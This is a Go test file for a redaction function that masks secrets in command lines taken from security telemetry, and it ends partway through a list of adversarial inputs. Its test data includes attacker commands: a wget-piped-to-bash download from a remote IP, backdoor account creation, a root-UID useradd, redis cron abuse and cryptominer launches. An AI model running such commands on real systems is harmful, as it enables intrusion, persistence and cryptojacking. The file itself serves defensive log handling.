package redact

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// TestSecrets: command lines as attackers and admins type them, from
// auditd, Sysmon and Defender for Endpoint. Each secret's value is hidden;
// the program, the flags' names, the user, the pool and the wallet stay.
func TestSecrets(t *testing.T) {
	t.Parallel()
	const wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
	for _, c := range []struct{ name, in, want string }{
		// Service principal and user sign-ins.
		{"az login service principal", "az login --service-principal -u 0f3c2a1e-app -p Zx8Q~secretValue123 --tenant 72f988bf",
			"az login --service-principal -u 0f3c2a1e-app -p *** --tenant 72f988bf"},
		{"az login long flag", "az login --username admin@contoso.example --password 'Winter2026!'",
			"az login --username admin@contoso.example --password '***'"},
		{"az login -p attached", "/usr/bin/az login --service-principal -u app -pZx8Q --tenant t", "/usr/bin/az login --service-principal -u app -p*** --tenant t"},
		{"az via bash -c", `bash -c "az login --service-principal -u app -p Zx8Q --tenant t && az vm list"`,
			`bash -c "az login --service-principal -u app -p *** --tenant t && az vm list"`},
		{"az client secret", "az ad sp credential reset --id app --client-secret=abc123", "az ad sp credential reset --id app --client-secret=***"},
		{"vm admin password", "az vm create -n miner01 --image Ubuntu2204 --admin-username azureuser --admin-password P@ssw0rd1234 --size Standard_NC6s_v3",
			"az vm create -n miner01 --image Ubuntu2204 --admin-username azureuser --admin-password *** --size Standard_NC6s_v3"},
		{"powershell", `powershell.exe -c Connect-AzAccount -ServicePrincipal -Tenant t -ApplicationId a -CertificatePassword:Hunter2 -AccessToken eyJ0eXAi`,
			`powershell.exe -c Connect-AzAccount -ServicePrincipal -Tenant t -ApplicationId a -CertificatePassword:*** -AccessToken ***`},
		{"securestring", `pwsh -c "$p = ConvertTo-SecureString 'S3cr3t!' -AsPlainText -Force"`, `pwsh -c "$p = ConvertTo-SecureString '***' -AsPlainText -Force"`},
		{"securestring -String", `pwsh -c "ConvertTo-SecureString -String 'S3cr3t!' -AsPlainText -Force"`, `pwsh -c "ConvertTo-SecureString -String '***' -AsPlainText -Force"`},

		// Databases.
		{"mysql attached", "mysql -u root -pS3cret -h 10.0.0.4 billing", "mysql -u root -p*** -h 10.0.0.4 billing"},
		{"mysql quoted", "sudo /usr/bin/mysql -uroot -p'S3 cret' -e 'show databases'", "sudo /usr/bin/mysql -uroot -p'***' -e 'show databases'"},
		{"mysqldump --password=", "mysqldump --user=root --password=S3cret --all-databases", "mysqldump --user=root --password=*** --all-databases"},
		{"sqlcmd", "sqlcmd -S tcp:db.database.windows.net -U sa -P S3cret -Q select", "sqlcmd -S tcp:db.database.windows.net -U sa -P *** -Q select"},
		{"redis", "redis-cli -h 10.0.0.9 -a foobared config set dir /var/spool/cron", "redis-cli -h 10.0.0.9 -a *** config set dir /var/spool/cron"},
		{"odbc", `isql -k "Driver=ODBC;Server=db;Uid=sa;Pwd=S3cret;"`, `isql -k "Driver=ODBC;Server=db;Uid=sa;Pwd=***;"`},
		{"sql connection string", `dotnet app.dll "Server=tcp:db.database.windows.net;User ID=admin;Password=S3cret;Encrypt=True"`,
			`dotnet app.dll "Server=tcp:db.database.windows.net;User ID=admin;Password=***;Encrypt=True"`},
		{"pgpassword", "PGPASSWORD=S3cret psql -h db -U postgres", "PGPASSWORD=*** psql -h db -U postgres"},

		// HTTP.
		{"curl -u", "curl -u admin:S3cret https://10.0.0.5/api", "curl -u admin:*** https://10.0.0.5/api"},
		{"curl --user=", "curl --user=admin:S3cret https://10.0.0.5/api", "curl --user=admin:*** https://10.0.0.5/api"},
		{"curl -u no password", "curl -u admin https://10.0.0.5/api", "curl -u admin https://10.0.0.5/api"},
		{"bearer header", `curl -s -H "Authorization: Bearer eyJ0eXAiOiJKV1Qi.eyJhdWQi.sig" https://management.azure.com/subscriptions`,
			`curl -s -H "Authorization: Bearer ***" https://management.azure.com/subscriptions`},
		{"basic header, single quotes", `curl -H 'authorization: Basic YWRtaW46UzNjcmV0' http://x`, `curl -H 'authorization: Basic ***' http://x`},
		{"az rest headers", `az rest --method get --url https://graph.microsoft.com/v1.0/me --headers "Authorization=Bearer eyJ0"`,
			`az rest --method get --url https://graph.microsoft.com/v1.0/me --headers "Authorization=Bearer ***"`},
		{"api key header", `curl -H "api-key: 0123abcd" https://x.openai.azure.com/openai/deployments`, `curl -H "api-key: ***" https://x.openai.azure.com/openai/deployments`},
		{"apim header", `curl -H "Ocp-Apim-Subscription-Key: 0123abcd" https://api`, `curl -H "Ocp-Apim-Subscription-Key: ***" https://api`},
		{"url userinfo", "git clone https://deploy:ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/org/repo.git",
			"git clone https://deploy:***@github.com/org/repo.git"},
		{"oauth body", `curl -d "grant_type=client_credentials&client_id=app&client_secret=Zx8Q~abc&scope=https://management.azure.com/.default" https://login.microsoftonline.com/t/oauth2/v2.0/token`,
			`curl -d "grant_type=client_credentials&client_id=app&client_secret=***&scope=https://management.azure.com/.default" https://login.microsoftonline.com/t/oauth2/v2.0/token`},
		{"json body", `curl -d '{"username":"admin","password": "S3cret"}' http://x`, `curl -d '{"username":"admin","password": "***"}' http://x`},
		{"json body, quote in the password", `curl -d '{"user":"admin","password":"Pa\"ss w0rd","x":1}' http://x`, `curl -d '{"user":"admin","password":"***","x":1}' http://x`},
		{"shell double quotes, quote in the password", `az login -u admin --password "Pa\"ss" --tenant t`, `az login -u admin --password "***" --tenant t`},
		{"escaped json body", `cmd /c curl -d "{\"client_secret\":\"Zx8Q\",\"x\":1}" http://x`, `cmd /c curl -d "{\"client_secret\":\"***\",\"x\":1}" http://x`},
		{"functions key", "curl https://fn.azurewebsites.net/api/run?code=abcDEF123==&name=x", "curl https://fn.azurewebsites.net/api/run?code=***&name=x"},

		// Azure storage and messaging.
		{"storage connection string", `az storage blob upload --connection-string "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=q1w2e3r4t5y6+/abc==;EndpointSuffix=core.windows.net" -f x`,
			`az storage blob upload --connection-string "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=***;EndpointSuffix=core.windows.net" -f x`},
		{"event hub connection string", `node send.js Endpoint=sb://ns.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=abc+def=`,
			`node send.js Endpoint=sb://ns.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=***`},
		{"sas url", "azcopy copy 'https://acct.blob.core.windows.net/c/x.tar?sv=2022-11-02&ss=b&srt=o&sp=r&se=2026-12-01T00:00:00Z&sig=AbC%2Bdef%3D' /tmp/x.tar",
			"azcopy copy 'https://acct.blob.core.windows.net/c/x.tar?sv=2022-11-02&ss=b&srt=o&sp=r&se=2026-12-01T00:00:00Z&sig=***' /tmp/x.tar"},
		{"account key flag", "az storage container list --account-name acct --account-key q1w2e3==", "az storage container list --account-name acct --account-key ***"},
		{"sas token flag", "az storage blob download --sas-token \"sv=2022&sig=abc\" -n x", "az storage blob download --sas-token \"***\" -n x"},

		// Environment.
		{"export", "export AZURE_CLIENT_SECRET=Zx8Q~abc AZURE_CLIENT_ID=app", "export AZURE_CLIENT_SECRET=*** AZURE_CLIENT_ID=app"},
		{"env prefix", "AZURE_STORAGE_KEY=q1w2== ARM_CLIENT_SECRET='x y' terraform apply", "AZURE_STORAGE_KEY=*** ARM_CLIENT_SECRET='***' terraform apply"},
		{"powershell env", `pwsh -c $env:AZURE_CLIENT_SECRET="Zx8Q"; ./run.ps1`, `pwsh -c $env:AZURE_CLIENT_SECRET="***"; ./run.ps1`},
		{"docker -e", "docker run -e GITHUB_TOKEN=ghp_abc -p 8080:80 img", "docker run -e GITHUB_TOKEN=*** -p 8080:80 img"},

		// Other tools.
		{"sshpass", "sshpass -p S3cret ssh -o StrictHostKeyChecking=no root@10.0.0.7", "sshpass -p *** ssh -o StrictHostKeyChecking=no root@10.0.0.7"},
		{"plink", `plink.exe -ssh root@10.0.0.7 -pw S3cret "curl x | sh"`, `plink.exe -ssh root@10.0.0.7 -pw *** "curl x | sh"`},
		{"openssl", "openssl enc -d -aes-256-cbc -pass pass:S3cret -in p.enc -out p", "openssl enc -d -aes-256-cbc -pass *** -in p.enc -out p"},
		{"openssl -k", "openssl enc -d -aes-256-cbc -k S3cret -in p.enc", "openssl enc -d -aes-256-cbc -k *** -in p.enc"},
		{"7z", "7z x -pinfected payload.7z -o/tmp/.x", "7z x -p*** payload.7z -o/tmp/.x"},
		{"smbclient", "smbclient //10.0.0.3/c$ -U admin%S3cret", "smbclient //10.0.0.3/c$ -U admin%***"},
		{"xfreerdp", "xfreerdp /v:10.0.0.3 /u:admin /p:S3cret", "xfreerdp /v:10.0.0.3 /u:admin /p:***"},
		{"windows flag", `wmic /node:10.0.0.3 /user:admin /password:S3cret process call create "x.exe"`, `wmic /node:10.0.0.3 /user:admin /password:*** process call create "x.exe"`},
		{"kubectl", "kubectl --token=eyJhbGci get secrets -A", "kubectl --token=*** get secrets -A"},
		{"kubectl create secret", "kubectl create secret generic db --from-literal=password=S3cret", "kubectl create secret generic db --from-literal=password=***"},

		// Miners: the pool, the wallet and the options stay.
		{"xmrig", "./xmrig -o pool.supportxmr.com:3333 -u " + wallet + " -p x -k --donate-level 1",
			"./xmrig -o pool.supportxmr.com:3333 -u " + wallet + " -p *** -k --donate-level 1"},
		{"xmrig attached", "xmrig.exe -o pool:3333 -u " + wallet + " -prig1", "xmrig.exe -o pool:3333 -u " + wallet + " -p***"},
		{"xmr-stak", "./xmr-stak -o pool:3333 -u " + wallet + " -p rig1:me@example.com", "./xmr-stak -o pool:3333 -u " + wallet + " -p ***"},
		{"cpuminer", "cpuminer -a yescryptR16 -o stratum+tcp://pool:6233 -u " + wallet + " -p c=YTN", "cpuminer -a yescryptR16 -o stratum+tcp://pool:6233 -u " + wallet + " -p ***"},
		{"minerd", "/usr/bin/minerd -o stratum+tcp://pool:3333 -u W -p x", "/usr/bin/minerd -o stratum+tcp://pool:3333 -u W -p ***"},
		{"t-rex", "t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u " + wallet + " -p x", "t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u " + wallet + " -p ***"},
		{"teamredminer", "./teamredminer -a kawpow -o stratum+tcp://pool:3333 -u W.rig -p x", "./teamredminer -a kawpow -o stratum+tcp://pool:3333 -u W.rig -p ***"},
		{"gminer", "./miner --algo kawpow --server pool -u W -p x", "./miner --algo kawpow --server pool -u W -p ***"},
		{"renamed miner, stratum url first", "/tmp/.x/kswapd0 -o stratum+ssl://pool.hashvault.pro:443 -u " + wallet + " -p rig1 -B",
			"/tmp/.x/kswapd0 -o stratum+ssl://pool.hashvault.pro:443 -u " + wallet + " -p *** -B"},
		{"nbminer password in the user", "nbminer -a kawpow -o stratum+tcp://pool:3333 -u " + wallet + ".rig1:S3cret",
			"nbminer -a kawpow -o stratum+tcp://pool:3333 -u " + wallet + ".rig1:***"},
		{"phoenixminer -pass", "PhoenixMiner.exe -pool ssl://eu1.ethermine.org:5555 -wal 0xWALLET -pass x", "PhoenixMiner.exe -pool ssl://eu1.ethermine.org:5555 -wal 0xWALLET -pass ***"},
		{"xmrig long flags", "/tmp/.x/kswapd0 --url=stratum+tcp://pool.minexmr.com:4444 --user=" + wallet + " --pass=x --cpu-priority 5",
			"/tmp/.x/kswapd0 --url=stratum+tcp://pool.minexmr.com:4444 --user=" + wallet + " --pass=*** --cpu-priority 5"},
		{"stratum userinfo", "t-rex -a kawpow -o stratum+tcp://" + wallet + ".rig1:x@rvn.2miners.com:6060",
			"t-rex -a kawpow -o stratum+tcp://" + wallet + ".rig1:***@rvn.2miners.com:6060"},

		// Found missing in review: each form hides its secret.
		{"mysql_pwd", "MYSQL_PWD=S3cret mysql -u root -h db", "MYSQL_PWD=*** mysql -u root -h db"},
		{"env _key _pass", "env STRIPE_SECRET_KEY=sk_live_1 SSH_KEY='-----BEGIN' SMTP_PASS=p ./app", "env STRIPE_SECRET_KEY=*** SSH_KEY='***' SMTP_PASS=*** ./app"},
		{"docker login", "docker login -u bot -p S3cret myacr.azurecr.io", "docker login -u bot -p *** myacr.azurecr.io"},
		{"podman login attached", "sudo podman login -u bot -pS3cret quay.io", "sudo podman login -u bot -p*** quay.io"},
		{"github token as url user", "git clone https://ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/a/b", "git clone https://***@github.com/a/b"},
		{"devops pat as url user", "git clone https://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrst@dev.azure.com/org/p/_git/r",
			"git clone https://***@dev.azure.com/org/p/_git/r"},
		{"url user and password", "curl https://user:pass@host/x", "curl https://user:***@host/x"},
		{"sas url escaped in a url", "curl 'https://x/?u=https%3A%2F%2Facct.blob.core.windows.net%2Fc%3Fsv%3D2022%26sig%3DAbC%252B%26se%3D2026'",
			"curl 'https://x/?u=https%3A%2F%2Facct.blob.core.windows.net%2Fc%3Fsv%3D2022%26sig%3D***%26se%3D2026'"},
		{"net user", "net user backdoor P@ssw0rd! /add", "net user backdoor *** /add"},
		{"net1 user upper case", `C:\Windows\System32\net1.exe USER admin "S3 cret" /domain`, `C:\Windows\System32\net1.exe USER admin "***" /domain`},
		{"aws configure set", "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG --profile p", "aws configure set aws_secret_access_key *** --profile p"},
		{"aws session token", "aws configure set default.aws_session_token IQoJb3JpZ2lu", "aws configure set default.aws_session_token ***"},
		{"vault login", "vault login hvs.CAESIJ7", "vault login ***"},
		{"winrs -p:", "winrs -r:10.0.0.3 -u:admin -p:S3cret cmd", "winrs -r:10.0.0.3 -u:admin -p:*** cmd"},
		{"winrs /p:", "winrs /r:10.0.0.3 /u:admin /p:S3cret cmd", "winrs /r:10.0.0.3 /u:admin /p:*** cmd"},
		{"ldapsearch -w", "ldapsearch -x -H ldap://dc -D cn=admin,dc=x -w S3cret -b dc=x", "ldapsearch -x -H ldap://dc -D cn=admin,dc=x -w *** -b dc=x"},
		{"schtasks /rp", "schtasks /create /tn upd /tr c:\\x.exe /ru admin /RP S3cret /sc onlogon", "schtasks /create /tn upd /tr c:\\x.exe /ru admin /RP *** /sc onlogon"},
		{"schtasks /p", "schtasks /query /s dc /u admin /p S3cret", "schtasks /query /s dc /u admin /p ***"},
		{"curl --oauth2-bearer", "curl --oauth2-bearer eyJ0eXAi https://graph.microsoft.com/v1.0/me", "curl --oauth2-bearer *** https://graph.microsoft.com/v1.0/me"},
		{"hydra", "hydra -l root -p S3cret ssh://10.0.0.1", "hydra -l root -p *** ssh://10.0.0.1"},
		{"netexec", "nxc smb 10.0.0.0/24 -u admin -p S3cret --shares", "nxc smb 10.0.0.0/24 -u admin -p *** --shares"},
		{"echo into sudo -S", "echo S3cret | sudo -S apt-get install -y masscan", "echo *** | sudo -S apt-get install -y masscan"},
		{"echo -e quoted into sudo -kS", `bash -c "echo -e 'S3cret\n' | sudo -kS id"`, `bash -c "echo -e '***' | sudo -kS id"`},
		{"echo into passwd --stdin", "echo 'N3w!' | passwd --stdin root", "echo '***' | passwd --stdin root"},
		{"echo into chpasswd", "echo root:N3w! | /usr/sbin/chpasswd", "echo root:*** | /usr/sbin/chpasswd"},
		{"htpasswd -b", "htpasswd -b /etc/nginx/.htpasswd admin S3cret", "htpasswd -b /etc/nginx/.htpasswd admin ***"},
		{"htpasswd -bc, redirected", "htpasswd -bc .htpasswd admin 'S3 cret' 2>/dev/null", "htpasswd -bc .htpasswd admin '***' 2>/dev/null"},
		{"openssl passwd", "useradd -o -u 0 -p $(openssl passwd -1 S3cret) sysadm", "useradd -o -u 0 -p $(openssl passwd -1 ***) sysadm"},
		{"sshpass -p", "sshpass -p S3cret ssh root@h", "sshpass -p *** ssh root@h"},
		{"mysql -p attached", "mysql -pS3cret", "mysql -p***"},
		{"mysql --password word", "mysql --password S3cret", "mysql --password ***"},
		{"curl bearer header", `curl -H "Authorization: Bearer eyJ0eXAi" https://x`, `curl -H "Authorization: Bearer ***" https://x`},

		// Benign lines that must not change.
		{"cp -p", "cp -p /etc/passwd /tmp/.p", ""},
		{"ssh -p 22", "ssh -p 22 azureuser@20.1.2.3", ""},
		{"docker run -p after docker login", "docker login -u bot --password-stdin acr.io; docker run -p 8080:80 img", ""},
		{"docker run -p", "docker run -p 8080:80 -e MODE=prod img", ""},
		{"lolminer -p is the pool", "./lolMiner -a ETHASH -p daggerhashimoto.eu-north.nicehash.com:3353 -u " + wallet + ".x", ""},
		{"miner wallet", "./xmrig -o pool.supportxmr.com:3333 -u " + wallet + " --tls", ""},
		{"stratum wallet user", "./kswapd0 -o stratum+tcp://" + wallet + "@pool:3333", ""},
		{"url user that is a name", "git clone https://contoso@dev.azure.com/contoso/p/_git/r", ""},
		{"net user without password", "net user backdoor /add", ""},
		{"net user asks", "net user admin *", ""},
		{"net user list", "net user", ""},
		{"aws configure set region", "aws configure set region eastus", ""},
		{"aws access key id", "aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE", ""},
		{"vault login method", "vault login -method=oidc role=admin", ""},
		{"htpasswd delete", "htpasswd -D .htpasswd admin", ""},
		{"echo into a pipe", "echo hello | grep h", ""},
		{"echo then sudo", "echo hello; sudo -S id", ""},
		{"echo or sudo", "echo hello || sudo -S id", ""},
		{"grep echo into sudo", "grep echo file | sudo -S tee x", ""},
		{"oldpwd is a folder, key a file", "OLDPWD=/tmp curl --key client.key --cert c.pem https://x", ""},
		{"key words", "HOTKEY=1 MONKEY=2 keyboard=us ./run", ""},
		{"ldapsearch -W asks", "ldapsearch -x -D cn=admin -W -b dc=x", ""},
		{"escaped query without secret", "curl 'https://x/?u=https%3A%2F%2Fa%3Fsv%3D2022%26sp%3Dr'", ""},
		{"mkdir -p", "mkdir -p /var/tmp/.X11-unix/.cache && cd /var/tmp/.X11-unix/.cache", ""},
		{"ssh -p", "ssh -p 2222 -i ~/.ssh/id_rsa azureuser@20.1.2.3", ""},
		{"docker -p", "docker run -d -p 3333:3333 --name x img", ""},
		{"mkdir after mysql", "mysql -e 'select 1'; mkdir -p /tmp/x", ""},
		{"password prompt flags", "docker login --password-stdin --username u myacr.azurecr.io", ""},
		{"no value", "az login --password", ""},
		{"password then flag", "ftp --password --verbose host", ""},
		{"path with secret word", "cat /etc/secret/token:x /data/password=1", "cat /etc/secret/token:x /data/password=***"},
		{"token file", "kubectl --token-file /var/run/secrets/token get pods", ""},
		{"key names only", "az keyvault secret show --vault-name kv --name db-password", ""},
		{"shared access key name", "Endpoint=sb://ns/;SharedAccessKeyName=Root", ""},
		{"bare url", "wget -q -O- http://198.51.100.7:8080/x.sh | bash", ""},
		{"url user without password", "git clone ssh://git@github.com/org/repo.git", ""},
		{"bearer alone", `curl -H "Authorization: Bearer" http://x`, ""},
		{"exit code words", "echo exit code: 3", ""},
		{"empty", "", ""},
	} {
		want := c.want
		if want == "" {
			want = c.in
		}
		if got := Secrets(c.in); got != want {
			t.Errorf("%s:\n in   %s\n got  %s\n want %s", c.name, c.in, got, want)
		}
	}
}

// TestSecretsKeepsWalletsAndPools: a miner's wallet and pools stay in
// sight, as detections and responders need them; only a pool password
// goes. A user:password split takes the last ':' (NBMiner's -u, a stratum
// URL's user information), and a coin's address (kaspa:…, bitcoincash:…)
// is no user:password.
func TestSecretsKeepsWalletsAndPools(t *testing.T) {
	t.Parallel()
	const (
		kaspa = "kaspa:qrfsy0xw5u9qk3rjx8y3q4l5cma7ufjyjnqhd0h5hkq4w3v0c9q2z4dlnxdy2"
		bch   = "bitcoincash:qpm2qsznhks23z7629mms6s4cwef74vcwvy22gdx6a"
		ergo  = "ergo:9f4QF8AD1nQ3nJahQVkMj8hFSVVzVom77b52JU7EW71Zexg6N8v"
		nexa  = "nexa:nqtsq5g5sjkqk7wzd9wwh9423rr0tda7m027ryljkfy84cjz"
		other = "radiant:1Q3t8cbLPn9kG4kQXGsKqbzd7mLDpAtTQ5Nx" // a letters prefix before a long address
	)
	for _, c := range []struct{ name, in, want string }{
		{"nbminer kaspa wallet", "nbminer -a kheavyhash -o stratum+tcp://pool.woolypooly.com:3112 -u kaspa:qrfsy0abcdef.rig1", ""},
		{"nbminer kaspa wallet, full", "nbminer -a kheavyhash -o stratum+tcp://pool:3112 -u " + kaspa + ".rig1", ""},
		{"nbminer kaspa wallet attached", "nbminer -a kheavyhash -o stratum+tcp://pool:3112 -u" + kaspa, ""},
		{"nbminer --user kaspa wallet", "nbminer -a kheavyhash -o stratum+tcp://pool:3112 --user " + kaspa + ".rig1", ""},
		{"nbminer bitcoincash", "nbminer -a sha256 -o stratum+tcp://pool:3333 -u " + bch + ".w1", ""},
		{"nbminer ergo", "nbminer -a ergo -o stratum+tcp://pool:3333 -u " + ergo, ""},
		{"nbminer nexa", "nbminer -a nexa -o stratum+tcp://pool:3333 -u " + nexa + ".w1", ""},
		{"nbminer unknown coin prefix, long address", "nbminer -o stratum+tcp://pool:3333 -u " + other, ""},
		{"nbminer kaspa wallet and password", "nbminer -a kheavyhash -o stratum+tcp://pool:3112 -u " + kaspa + ".rig1:S3cret",
			"nbminer -a kheavyhash -o stratum+tcp://pool:3112 -u " + kaspa + ".rig1:***"},
		{"nbminer short kaspa wallet and password", "nbminer -u kaspa:qrfsy0abcdef.rig1:x", "nbminer -u kaspa:qrfsy0abcdef.rig1:***"},
		{"nbminer password after the last colon", "nbminer -u W.rig1:pa:ss", "nbminer -u W.rig1:pa:***"},
		{"nbminer user of letters and a password", "nbminer -u miner:S3cret", "nbminer -u miner:***"},
		{"nbminer user of letters and a password with signs", "nbminer -u kaspa:p@ss!", "nbminer -u kaspa:***"},
		{"stratum url kaspa user", "nbminer -a kheavyhash -o stratum+tcp://kaspa:qrabc@pool.example:5555", ""},
		{"stratum url kaspa user, full", "./kswapd0 -o stratum+ssl://" + kaspa + ".rig1@pool.example:5555", ""},
		{"stratum url bitcoincash user", "cgminer -o stratum+tcp://" + bch + "@pool:3333", ""},
		{"ssl url kaspa user", "bzminer -a kaspa -p ssl://" + kaspa + "@pool:5555", ""},
		{"stratum url kaspa user and password", "t-rex -o stratum+tcp://" + kaspa + ".rig1:S3cret@pool:5555",
			"t-rex -o stratum+tcp://" + kaspa + ".rig1:***@pool:5555"},
		{"stratum url password after the last colon", "t-rex -o stratum+tcp://W.rig1:pa:ss@pool:5555", "t-rex -o stratum+tcp://W.rig1:pa:***@pool:5555"},
		{"stratum url user of letters and a password", "t-rex -o stratum+tcp://miner:S3cret@pool:5555", "t-rex -o stratum+tcp://miner:***@pool:5555"},
		{"web url keeps the first colon", "curl https://admin:pa:ss@h/x", "curl https://admin:***@h/x"},
		{"web url: no coin, a password", "curl https://kaspa:" + kaspa[6:] + "@h/x", "curl https://kaspa:***@h/x"},
		{"curl -u keeps the first colon", "curl -u admin:pa:ss https://h", "curl -u admin:*** https://h"},
		{"curl -u kaspa is a user", "curl -u kaspa:S3cret https://h", "curl -u kaspa:*** https://h"},

		// A flag's value that holds a URL is a pool, not a password.
		{"lolminer second pool", "lolMiner --algo ETHASH -p stratum+tcp://eu1.ethermine.org:4444 -u W.x -p stratum+tcp://eth.f2pool.com:6688 -u W.y", ""},
		{"lolminer -p after a stratum url", "lolMiner -a ETHASH --pool stratum+tcp://a.example:4444 -p stratum+tcp://eth.f2pool.com:6688", ""},
		{"bzminer second pool", "bzminer -a kaspa -w " + kaspa + " -p stratum+tcp://pool1:4444 -p stratum+tcp://pool2:4444", ""},
		{"bzminer quoted pool", "bzminer -a kaspa -w W -p 'stratum+tcp://pool1:4444' -p \"stratum+ssl://pool2:4444\"", ""},
		{"xmrig -p url", "xmrig -o stratum+tcp://pool:3333 -u W -p stratum+tcp://backup:3333", ""},
		{"pool url's own password", "xmrig -o stratum+tcp://pool:3333 -u W -p stratum+tcp://W.rig:S3cret@backup:3333",
			"xmrig -o stratum+tcp://pool:3333 -u W -p stratum+tcp://W.rig:***@backup:3333"},
		{"password flag with a url", "app --password=https://u:S3cret@h/x", "app --password=https://u:***@h/x"},
		{"xmrig -p x after the url", "xmrig -o stratum+tcp://pool:3333 -u W.worker -p x", "xmrig -o stratum+tcp://pool:3333 -u W.worker -p ***"},
	} {
		want := c.want
		if want == "" {
			want = c.in
		}
		if got := Secrets(c.in); got != want {
			t.Errorf("%s:\n in   %s\n got  %s\n want %s", c.name, c.in, got, want)
		}
	}
}

// TestSecretsScopesCommandWords: a scoped flag's program is the command's,
// named by a command word (the first of a command, the first after a
// wrapper's options, the first in quotes that more follow), not by a
// word in an argument or a path.
func TestSecretsScopesCommandWords(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, in, want string }{
		{"sshpass then ssh's port", "sshpass -p S3cret ssh -p 22 root@10.0.0.7", "sshpass -p *** ssh -p 22 root@10.0.0.7"},
		{"sshpass -f then ssh's port", "sshpass -f /tmp/p ssh -p 2222 -o StrictHostKeyChecking=no root@h", ""},
		{"sshpass attached then ssh's port", "sshpass -pS3cret ssh -p 22 h", "sshpass -p*** ssh -p 22 h"},
		{"docker volume path", "docker run -v /srv/mysql:/var/lib/mysql -p 3306:3306 img", ""},
		{"docker name", "docker run -d --name mysql -e MYSQL_DATABASE=app -p 3306:3306 mysql:8", ""},
		{"program in a path argument", "cp /usr/bin/htpasswd /tmp/x -b 1", ""},
		{"program as an argument", "systemctl restart mysql -p 1", ""},
		{"quoted path argument", `docker run -v "/srv/mysql:/var/lib/mysql" -p 3306:3306 img`, ""},

		// Wrappers: their command's word is a command word.
		{"sudo -u", "sudo -u root mysql -pS3cret", "sudo -u root mysql -p***"},
		{"sudo cluster", "sudo -Eu root /usr/bin/mysql -pS3cret", "sudo -Eu root /usr/bin/mysql -p***"},
		{"sudo -u quoted", `sudo -u "db admin" mysql -pS3cret`, `sudo -u "db admin" mysql -p***`},
		{"sudo --user=", "sudo --user=root mysql -pS3cret", "sudo --user=root mysql -p***"},
		{"sudo --", "sudo -- mysql -pS3cret", "sudo -- mysql -p***"},
		{"env", "env -i PATH=/bin MYSQL_HOST=db mysql -pS3cret", "env -i PATH=/bin MYSQL_HOST=db mysql -p***"},
		{"variables", "LANG=C TZ=UTC mysql -pS3cret", "LANG=C TZ=UTC mysql -p***"},
		{"timeout", "timeout -s KILL 10 mysql -pS3cret", "timeout -s KILL 10 mysql -p***"},
		{"nohup nice", "nohup nice -n 19 ./xmrig -o pool:3333 -u W -p rig1 &", "nohup nice -n 19 ./xmrig -o pool:3333 -u W -p *** &"},
		{"ssh remote command", "ssh -p 22 -i k root@h mysql -pS3cret", "ssh -p 22 -i k root@h mysql -p***"},
		{"ssh remote command quoted", `ssh -p 22 root@h "mysql -pS3cret"`, `ssh -p 22 root@h "mysql -p***"`},
		{"sshpass ssh remote command", "sshpass -p S3cret ssh -p 22 root@h mysql -pS3cret2", "sshpass -p *** ssh -p 22 root@h mysql -p***"},
		{"su -c", "su - root -c 'mysql -pS3cret'", "su - root -c 'mysql -p***'"},
		{"cmd /c", `cmd.exe /q /c C:\tools\7z.exe x -pS3cret a.7z`, `cmd.exe /q /c C:\tools\7z.exe x -p*** a.7z`},
		{"powershell", `powershell.exe -NoProfile -ep Bypass -w hidden -c "ConvertTo-SecureString -String 'S3cret' -AsPlainText -Force"`,
			`powershell.exe -NoProfile -ep Bypass -w hidden -c "ConvertTo-SecureString -String '***' -AsPlainText -Force"`},
		{"xargs sh -c", `xargs -I{} sh -c 'mysql -pS3cret -e "{}"'`, `xargs -I{} sh -c 'mysql -p*** -e "{}"'`},
		{"shell words", "if true; then mysql -pS3cret; fi", "if true; then mysql -p***; fi"},
		{"quoted command in an argument", "docker exec db sh -c 'mysql -uroot -pS3cret'", "docker exec db sh -c 'mysql -uroot -p***'"},
		{"quoted argument, then the flag", "mysql -e 'select 1' -pS3cret", "mysql -e 'select 1' -p***"},
		{"a wrapper's option value is no command", "sudo -u mysql id -p 1", ""},
		{"timeout's duration is no command", "timeout mysql id -p 1", ""},
	} {
		want := c.want
		if want == "" {
			want = c.in
		}
		if got := Secrets(c.in); got != want {
			t.Errorf("%s:\n in   %s\n got  %s\n want %s", c.name, c.in, got, want)
		}
	}
}

// adversarial are command lines of 1 MiB built to make a scan repeat
// itself: a flag whose secret is the command's last word, again and again
// (the last word a flag, so that each looks to the end), echoes into
// sudo -S, values holding a URL that holds keys, runs of ':' and '@'.
func adversarial() []struct{ name, in string } {
	const n = 1 << 20
	rep := func(head, unit, tail string) string {
		return head + strings.Repeat(unit, (n-len(head)-len(tail))/len(unit)) + tail
	}
	return []struct{ name, in string }{
		{"htpasswd -b", rep("", "htpasswd -b ", "")},
		{"htpasswd -b, flag last", rep("htpasswd", " -b", " -x")},
		{"openssl passwd", rep("", "openssl passwd ", "")},
		{"openssl passwd, flag last", rep("openssl", " passwd", " -1")},
		{"openssl passwd -1", rep("", "openssl passwd -1 ", "")},
		{"mysql -p", rep("mysql ", "-p ", "")},
		{"sshpass -p", rep("", "sshpass -p ", "")},
		{"stratum -p", rep("x -o stratum+tcp://p:1 ", "-p ", "")},
		{"colons", rep("", ":", "")},
		{"ats", rep("", "@", "")},
		{"colons after a url", rep("curl https://", ":", "")},
		{"url of colons then ats", "stratum+tcp://" + strings.Repeat(":", n/2) + strings.Repeat("@", n/2)},
		{"user:password@", rep("git clone https://", "a:b@", "")},
		{"schemes", rep("", "a://", "")},
		{"net user, quote after the name", rep("", `net user a\" `, "")},
		{"echo into sudo -S", rep("", "echo a|sudo -S;", "")},
		{"echo into chpasswd", rep("", "echo a:b|chpasswd;", "")},
		{"keys in a url value", rep("", "--password=x://", "")},
		{"keys in a quoted url value", rep("", `password="x:// `, "")},
		{"escaped keys", rep("", "sig%3Dx://", "")},
